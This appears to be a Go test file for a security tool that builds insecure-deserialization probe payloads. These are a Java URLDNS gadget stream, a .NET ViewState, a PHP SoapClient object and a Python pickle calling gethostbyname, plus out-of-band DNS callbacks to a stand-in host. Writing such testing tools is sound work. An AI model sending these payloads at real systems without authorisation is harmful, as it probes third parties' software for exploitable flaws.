@@ -0,0 +1,85 @@
+package tools
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"strings"
+	"testing"
+)
+
+func TestJavaURLDNS(t *testing.T) {
+	got := hex.EncodeToString(javaURLDNS("a.b"))
+	want := "aced0005" +
+		"737200116a6176612e7574696c2e486173684d61700507dac1c31660d10300024600" +
+		"0a6c6f6164466163746f724900097468726573686f6c6478703f4000000000000c" +
+		"770800000010000000017372000c6a6176612e6e65742e55524c962537361afce472" +
+		"03000749000868617368436f646549000470" // up to the port field
+	if !strings.HasPrefix(got, want) {
+		t.Fatalf("stream head:\n got %s\nwant %s", got[:len(want)], want)
+	}
+	// hashCode and port -1, authority "a.b", file "", host as a reference
+	// to authority, protocol "http", null ref, then the map value.
+	tail := "ffffffffffffffff" + "740003612e62" + "74000071007e0005" + "740004687474707078" + "74000a687474703a2f2f612e6278"
+	if !strings.HasSuffix(got, "78"+"70"+tail) {
+		t.Errorf("stream tail: %s", got)
+	}
+	if n := strings.Count(got, "71007e0003"); n != 4 {
+		t.Errorf("%d references to the String type, want 4", n)
+	}
+}
+
+func TestDotnetViewState(t *testing.T) {
+	got := base64.StdEncoding.EncodeToString(dotnetViewState("-123456789"))
+	if got != "/wEPDwUKLTEyMzQ1Njc4OWRk" {
+		t.Errorf("got %s", got)
+	}
+	long := dotnetViewState(strings.Repeat("x", 200))
+	if !bytes.Equal(long[4:7], []byte{0x05, 0xc8, 0x01}) {
+		t.Errorf("length prefix = % x", long[4:7])
+	}
+}
+
+func TestPHPAndPickle(t *testing.T) {
+	if got := phpObject("SoapClient", "uri", "http://x/"); got != `O:10:"SoapClient":1:{s:3:"uri";s:9:"http://x/";}` {
+		t.Errorf("php = %s", got)
+	}
+	if got := pickleCall("socket", "gethostbyname", "a'b"); got != "csocket\ngethostbyname\n(S'a\\'b'\ntR." {
+		t.Errorf("pickle = %q", got)
+	}
+}
+
+func TestDeserPayloadHandler(t *testing.T) {
+	_, out, err := deserPayloadHandler(context.Background(), nil, DeserPayloadInput{Callback: "https://OOB.example.", Platforms: []string{"java", ".NET", "php", "python"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	hosts := map[string]bool{}
+	for _, p := range out.Payloads {
+		if p.CallbackHost == "" {
+			continue
+		}
+		if hosts[p.CallbackHost] || !strings.HasPrefix(p.CallbackHost, out.Canary+"-") || !strings.HasSuffix(p.CallbackHost, ".OOB.example") {
+			t.Errorf("%s: callback host %q", p.Name, p.CallbackHost)
+		}
+		hosts[p.CallbackHost] = true
+		data, _ := base64.StdEncoding.DecodeString(p.Base64)
+		if !bytes.Contains(data, []byte(p.CallbackHost)) {
+			t.Errorf("%s: payload doesn't contain its host", p.Name)
+		}
+	}
+	if len(hosts) != 3 {
+		t.Errorf("callback payloads = %v", hosts)
+	}
+
+	_, out, err = deserPayloadHandler(context.Background(), nil, DeserPayloadInput{Platforms: []string{"php"}})
+	if err != nil || len(out.Payloads) != 2 || out.Payloads[0].Raw == "" || out.Note == "" {
+		t.Errorf("no callback: %+v, %v", out, err)
+	}
+	for _, in := range []DeserPayloadInput{{Platforms: []string{"ruby"}}, {Callback: "a.com/x"}} {
+		if _, _, err := deserPayloadHandler(context.Background(), nil, in); err == nil {
+			t.Errorf("%+v accepted", in)
+		}
+	}
+}